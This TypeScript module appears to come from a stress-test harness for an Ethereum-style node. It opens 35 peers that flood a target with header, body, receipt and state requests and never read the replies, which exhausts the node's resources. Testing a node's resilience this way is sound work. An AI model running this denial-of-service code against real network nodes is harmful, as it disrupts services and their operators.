/** Attack: peers that send requests and never read the responses. */
import { randomBytes } from "node:crypto";
import { setTimeout } from "node:timers/promises";
import { DEVELOPMENT_KEYS } from "../../../node/accounts/development-keys.ts";
import { fromHex, toHex } from "../../../node/bytes/hex.ts";
import { sign } from "../../../node/crypto/secp256k1.ts";
import { signTransaction } from "../../../node/model/transaction.ts";
import { messages } from "../../../node/protocol/messages.ts";
import { ask } from "../../rpc/ask.ts";
import type { Attack } from "../attack.ts";
import { FIRST_CODE, keepPeers, meetChain } from "../peers.ts";

const PEERS = 35;
const HASHES = 200;

const LONG_INPUT = 30_000;
const PRICE = 750_000_000_000n;
const LOOK_MS = 100;

/** A block with a long transaction, as any chain has some; its hash. */
async function makeLongBlock(http: string): Promise<string> {
  const [key = new Uint8Array(32)] = DEVELOPMENT_KEYS;
  const draft = {
    code: 0,
    nonce: 0n,
    gas: 10_000_000n,
    gasFeeCap: PRICE,
    gasTipCap: PRICE,
    value: 0n,
    to: new Uint8Array(20).fill(9),
    input: randomBytes(LONG_INPUT),
  };
  const chainId = BigInt(await ask<string>(http, "eth_chainId", []));
  const { raw } = signTransaction(draft, chainId, (digest) => sign(digest, key));
  const hash = await ask<string>(http, "eth_sendRawTransaction", [toHex(raw)]);
  for (;;) {
    const receipt = await ask<{ readonly blockHash: string } | null>(http, "eth_getTransactionReceipt", [
      hash,
    ]);
    if (receipt !== null) return receipt.blockHash;
    await setTimeout(LOOK_MS);
  }
}

/** Requests whose answers nobody takes. */
export const attack: Attack = {
  summary: `${PEERS} peers that ask for headers, bodies, receipts and state and never read`,
  flags: ["--maxconnections", "60"],
  watchesPeer: true,
  run: async (target, signal) => {
    const hash = fromHex(await makeLongBlock(target.http));
    const hashes = Array.from({ length: HASHES }, () => hash);
    const { headersRequest, bodiesRequest, receiptsRequest, nodeDataRequest } = messages;
    const headers = headersRequest.encode({ origin: 0n, amount: 192n, skip: 0n, reverse: false });
    const requests = [
      [headersRequest.code, headers],
      [bodiesRequest.code, bodiesRequest.encode(hashes)],
      [receiptsRequest.code, receiptsRequest.encode(hashes)],
      [nodeDataRequest.code, nodeDataRequest.encode(hashes)],
    ] as const;
    return keepPeers(target, signal, {
      count: PEERS,
      use: async ({ transport, flood }) => {
        await meetChain(transport);
        transport.socket.removeAllListeners("readable");
        transport.socket.pause();
        let sent = 0;
        await flood(() => {
          const [code, payload] = requests[sent++ % requests.length] ?? requests[0];
          return [FIRST_CODE + code, payload];
        });
      },
    });
  },
};
